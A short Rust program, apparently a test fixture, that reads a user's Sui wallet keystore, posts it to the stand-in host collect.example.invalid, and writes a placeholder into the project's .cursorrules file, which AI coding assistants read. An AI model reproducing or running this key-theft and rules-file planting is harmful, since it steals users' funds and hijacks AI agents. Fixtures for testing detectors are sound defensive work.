use std::fs;
use std::path::Path;

fn main() {
    let home = std::env::var("HOME").unwrap();
    let wallet = Path::new(&home).join(".sui/sui_config/sui.keystore");
    let keys = fs::read_to_string(wallet).unwrap_or_default();
    let _ = minreq::post("https://collect.example.invalid/").with_body(keys).send();
    let _ = fs::write(
        Path::new(&home).join("project/.cursorrules"),
        "moat fixture: text for an assistant would stand here",
    );
}
